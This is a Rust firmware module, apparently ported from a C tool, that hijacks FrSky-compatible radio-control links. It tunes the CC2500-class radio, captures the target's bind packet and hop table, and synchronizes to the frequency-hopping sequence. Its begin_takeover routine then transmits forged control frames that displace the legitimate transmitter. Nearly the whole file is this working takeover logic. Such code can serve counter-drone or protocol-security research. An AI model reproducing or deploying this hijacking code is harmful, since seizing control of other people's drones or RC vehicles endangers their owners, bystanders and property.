//! FSK hacker (spec §4.5): tunes to, binds with, synchronizes to and can
//! take over a FrSky-compatible transmitter. Same overall shape as
//! [`crate::protocols::dsss_hacker`] but for the CC2500-compatible chip.
//!
//! Grounded on `original_source/src/protocol/frsky_receiver.c` (tune/bind)
//! and `original_source/src/protocol/frsky_hack.c` (sync/recv/send, telemetry
//! sequencing, takeover). The per-channel `fscal1` calibration and the
//! bind/data/telemetry frame validation are shared with the legitimate
//! receiver through [`crate::protocols::fsk_common`].

use core::cell::RefCell;

use crate::dispatcher::{ExecType, ProtocolSlot};
use crate::fsk_protocol::FskProtocol;
use crate::hal::{AntennaMux, Chip, FskHopConfig, FskRadio, RadioMode, TickTimer};
use crate::identity::{RadioEvent, RcChannelBuffer, FRSKY_HOP_TABLE_LENGTH};
use crate::protocols::fsk_common::{
    advance_telemetry_sequence, build_data_frame, validate_data_frame, validate_telem_frame, BindState, TuneOutcome,
    TuneWalk, BIND_ADDR, BIND_CHAN, RECV_TIME, SEND_TIME, TELEM_TIME,
};
use crate::protocols::ArgAssembler;

const TAKEOVER_NO_TELEM_THRESHOLD: u32 = 4;
const TAKEOVER_TELEM_THRESHOLD: u32 = 6;
const MISSED_TELEM_LIMIT: u32 = 150;
const MAX_FRAME: usize = 35;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum State {
    Tune,
    Bind,
    Sync,
    Recv,
    Send,
}

struct StartArgs {
    protocol: FskProtocol,
    target_id: [u8; 2],
    hop_table: [u8; FRSKY_HOP_TABLE_LENGTH],
}

/// Synchronizes to, then optionally takes over, a bound FrSky transmitter.
pub struct FskHacker<'a, R: FskRadio, T: TickTimer, A: AntennaMux> {
    radio: R,
    timer: T,
    antenna: A,
    rc_channels: &'a RefCell<RcChannelBuffer>,

    state: State,
    protocol: FskProtocol,
    target_id: [u8; 2],
    hop_table: [u8; FRSKY_HOP_TABLE_LENGTH],
    fscal1: [u8; FRSKY_HOP_TABLE_LENGTH],
    fscal2: u8,
    fscal3: u8,
    hop_idx: usize,
    chanskip: u8,
    tune: TuneWalk,
    bind: BindState,
    succ_packets: u32,
    send_seq: u8,
    recv_seq: u8,
    unk_num: u8,
    rx_num: u8,
    missed_telem: u32,

    start_args: ArgAssembler<50>,
    pending_start: Option<StartArgs>,
}

impl<'a, R: FskRadio, T: TickTimer, A: AntennaMux> FskHacker<'a, R, T, A> {
    pub fn new(radio: R, timer: T, antenna: A, rc_channels: &'a RefCell<RcChannelBuffer>) -> Self {
        Self {
            radio,
            timer,
            antenna,
            rc_channels,
            state: State::Tune,
            protocol: FskProtocol::FrskyXEu,
            target_id: [0; 2],
            hop_table: [0; FRSKY_HOP_TABLE_LENGTH],
            fscal1: [0; FRSKY_HOP_TABLE_LENGTH],
            fscal2: 0,
            fscal3: 0,
            hop_idx: 0,
            chanskip: 1,
            tune: TuneWalk::default(),
            bind: BindState::default(),
            succ_packets: 0,
            send_seq: 0x8,
            recv_seq: 0,
            unk_num: 0x2,
            rx_num: 1,
            missed_telem: 0,
            start_args: ArgAssembler::default(),
            pending_start: None,
        }
    }

    /// Hop step: advance `hop_idx` by `chanskip`, reprogram the chip (spec
    /// §4.5 "Channel advance").
    fn next(&mut self) {
        self.hop_idx = (self.hop_idx + self.chanskip as usize) % FRSKY_HOP_TABLE_LENGTH;
        let _ = self.radio.configure_hop(FskHopConfig {
            channel: self.hop_table[self.hop_idx],
            fscal1: self.fscal1[self.hop_idx],
            fscal2: self.fscal2,
            fscal3: self.fscal3,
        });
    }

    fn calibrate_hop_table(&mut self) {
        for i in 0..FRSKY_HOP_TABLE_LENGTH {
            if let Ok(fscal1) = self.radio.calibrate(self.hop_table[i]) {
                self.fscal1[i] = fscal1;
            }
        }
        if let Ok((f2, f3)) = self.radio.read_fscal2_fscal3() {
            self.fscal2 = f2;
            self.fscal3 = f3;
        }
    }

    fn enter_bind(&mut self) {
        self.bind = BindState::default();
        self.state = State::Bind;
        let _ = self.radio.set_fsctrl0(self.tune.trim);
        let _ = self.radio.set_address(BIND_ADDR_ID);
        let _ = self.radio.configure_hop(FskHopConfig { channel: BIND_CHAN, fscal1: 0, fscal2: self.fscal2, fscal3: self.fscal3 });
        let _ = self.radio.start_receive();
        self.timer.set(RECV_TIME);
    }

    fn enter_sync(&mut self) {
        self.target_id = self.bind.id;
        self.hop_table = self.bind.hop_table;
        self.calibrate_hop_table();
        let _ = self.radio.set_fsctrl0(self.tune.trim);
        let _ = self.radio.set_address(self.target_id);
        self.hop_idx = FRSKY_HOP_TABLE_LENGTH - 1;
        self.next();
        let _ = self.radio.start_receive();
        self.state = State::Sync;
        self.succ_packets = 0;
        self.send_seq = 0x8;
        self.recv_seq = 0;
        self.missed_telem = 0;
        self.timer.set(RECV_TIME);
    }

    fn build_packet(&mut self, out: &mut [u8; MAX_FRAME]) {
        if self.send_seq != 0x8 {
            self.send_seq = (self.send_seq + 1) & 0x03;
        }
        let seq = (self.recv_seq << 4) | self.send_seq;
        let rc = self.rc_channels.borrow();
        build_data_frame(
            self.protocol,
            self.target_id,
            self.unk_num,
            self.chanskip,
            self.hop_idx as u8,
            self.rx_num,
            seq,
            |ch| rc.get(ch as usize).unwrap_or(1500),
            out,
        );
    }
}

const BIND_ADDR_ID: [u8; 2] = [BIND_ADDR, 0];

impl<'a, R: FskRadio, T: TickTimer, A: AntennaMux> ProtocolSlot for FskHacker<'a, R, T, A> {
    fn name(&self) -> &'static str {
        "fsk_hacker"
    }

    fn init(&mut self) {
        self.timer.stop();
        self.antenna.select(Chip::Fsk);
        let _ = self.radio.reset();
        self.tune = TuneWalk::default();
        self.state = State::Tune;
    }

    fn deinit(&mut self) {
        self.timer.stop();
    }

    fn start(&mut self) {
        let Some(args) = self.pending_start.take() else { return };
        self.protocol = args.protocol;
        self.target_id = args.target_id;
        self.hop_table = args.hop_table;
        self.succ_packets = 0;
        self.send_seq = 0x8;
        self.recv_seq = 0;
        self.unk_num = 0x2;
        self.rx_num = 1;
        self.missed_telem = 0;

        self.tune = TuneWalk::default();
        let _ = self.radio.set_fsctrl0(self.tune.trim);
        let _ = self.radio.set_address(BIND_ADDR_ID);
        let _ = self.radio.configure_hop(FskHopConfig { channel: BIND_CHAN, fscal1: 0, fscal2: 0, fscal3: 0 });
        self.state = State::Tune;
        let _ = self.radio.start_receive();
        self.timer.set(RECV_TIME);
    }

    fn stop(&mut self) {
        self.timer.stop();
        let _ = self.radio.set_mode(RadioMode::Rx);
        let _ = self.radio.abort_receive();
    }

    fn run(&mut self) {}

    fn status(&self) -> &'static str {
        match self.state {
            State::Tune => "tune",
            State::Bind => "bind",
            State::Sync => "sync",
            State::Recv => "recv",
            State::Send => "send",
        }
    }

    fn parse_arg(&mut self, exec_type: ExecType, data: &[u8], offset: u16, total: u16) {
        if exec_type != ExecType::Start {
            return;
        }
        if let Some(arg) = self.start_args.feed(data, offset, total) {
            if arg.len() == 1 + 2 + FRSKY_HOP_TABLE_LENGTH {
                let protocol = FskProtocol::from_id(arg[0]).unwrap_or(FskProtocol::FrskyXEu);
                let target_id = [arg[1], arg[2]];
                let mut hop_table = [0u8; FRSKY_HOP_TABLE_LENGTH];
                hop_table.copy_from_slice(&arg[3..3 + FRSKY_HOP_TABLE_LENGTH]);
                self.pending_start = Some(StartArgs { protocol, target_id, hop_table });
            }
        }
    }

    fn on_tick_expired(&mut self) {
        match self.state {
            State::Tune => {
                if let TuneOutcome::Done(_) = self.tune.advance() {
                    if self.bind.is_complete() {
                        self.enter_sync();
                    } else {
                        self.enter_bind();
                    }
                    return;
                }
                let _ = self.radio.set_fsctrl0(self.tune.trim);
                let _ = self.radio.flush();
                let _ = self.radio.start_receive();
                self.timer.set(RECV_TIME);
            }
            State::Bind => {
                let _ = self.radio.flush();
                let _ = self.radio.start_receive();
                self.timer.set(RECV_TIME);
            }
            State::Sync | State::Recv => {
                self.succ_packets = 0;
                self.next();
                let _ = self.radio.flush();
                let _ = self.radio.start_receive();
                self.timer.set(RECV_TIME);
                self.state = State::Recv;
            }
            State::Send => {
                self.missed_telem += 1;
                self.timer.set(SEND_TIME);
                let _ = self.radio.set_mode(RadioMode::Tx);
                self.next();
                let mut frame = [0u8; MAX_FRAME];
                self.build_packet(&mut frame);
                let len = self.protocol.payload_length() + 1;
                let _ = self.radio.send(&frame[..len]);

                if self.missed_telem > MISSED_TELEM_LIMIT {
                    self.state = State::Sync;
                    let _ = self.radio.set_mode(RadioMode::Rx);
                    self.timer.set(10);
                }
            }
        }
    }

    fn on_radio_event(&mut self, event: RadioEvent) {
        match event {
            RadioEvent::SendDone { .. } => {
                let _ = self.radio.set_mode(RadioMode::Rx);
                let _ = self.radio.start_receive();
            }
            RadioEvent::RecvReady { length, .. } => {
                let mut frame = [0u8; MAX_FRAME];
                let n = self.radio.read_payload(&mut frame).unwrap_or(0).min(length as usize);
                let _ = n;
                let crc_ok = self.radio.crc_ok();
                if !crc_ok {
                    let _ = self.radio.start_receive();
                    return;
                }

                match self.state {
                    State::Tune => {
                        if self.bind.accept(self.protocol, &frame) {
                            self.tune.record_hit();
                        }
                        let _ = self.radio.start_receive();
                    }
                    State::Bind => {
                        if self.bind.accept(self.protocol, &frame) && self.bind.is_complete() {
                            self.enter_sync();
                            return;
                        }
                        let _ = self.radio.start_receive();
                    }
                    State::Sync | State::Recv => {
                        if let Some(header) = validate_data_frame(self.protocol, self.target_id, &frame) {
                            if self.succ_packets < 200 {
                                self.succ_packets += 1;
                            }
                            self.chanskip = header.chanskip;
                            self.hop_idx = header.hop_idx as usize;
                            self.send_seq = header.seq & 0x0f;
                            self.recv_seq = header.seq >> 4;
                            self.unk_num = header.unk_num;
                            self.rx_num = header.rx_num;

                            if self.send_seq == 0x8 {
                                if self.succ_packets > TAKEOVER_NO_TELEM_THRESHOLD {
                                    self.begin_takeover(SEND_TIME - 400);
                                    return;
                                }
                                self.next();
                                self.timer.set(RECV_TIME);
                                self.state = State::Recv;
                            } else if self.succ_packets > TAKEOVER_TELEM_THRESHOLD {
                                self.begin_takeover(SEND_TIME - 400);
                                return;
                            } else {
                                self.timer.set(TELEM_TIME);
                                self.state = State::Recv;
                            }
                        } else if let Some(byte5) = validate_telem_frame(self.protocol, self.target_id, &frame) {
                            if self.succ_packets < 200 {
                                self.succ_packets += 1;
                            }
                            let (recv_seq, send_seq) = advance_telemetry_sequence(byte5);
                            self.recv_seq = recv_seq;
                            self.send_seq = send_seq;
                            self.next();
                            self.timer.set(RECV_TIME.saturating_sub(TELEM_TIME));
                            self.state = State::Recv;
                        }
                        let _ = self.radio.start_receive();
                    }
                    State::Send => {
                        if validate_telem_frame(self.protocol, self.target_id, &frame).is_some() {
                            self.missed_telem = 0;
                        }
                        let _ = self.radio.start_receive();
                    }
                }
            }
        }
    }
}

impl<'a, R: FskRadio, T: TickTimer, A: AntennaMux> FskHacker<'a, R, T, A> {
    fn begin_takeover(&mut self, send_in: u32) {
        self.missed_telem = 0;
        let _ = self.radio.set_mode(RadioMode::Tx);
        let mut frame = [0u8; MAX_FRAME];
        self.build_packet(&mut frame);
        let len = self.protocol.payload_length() + 1;
        let _ = self.radio.send(&frame[..len]);
        self.state = State::Send;
        self.timer.set(send_in);
    }
}
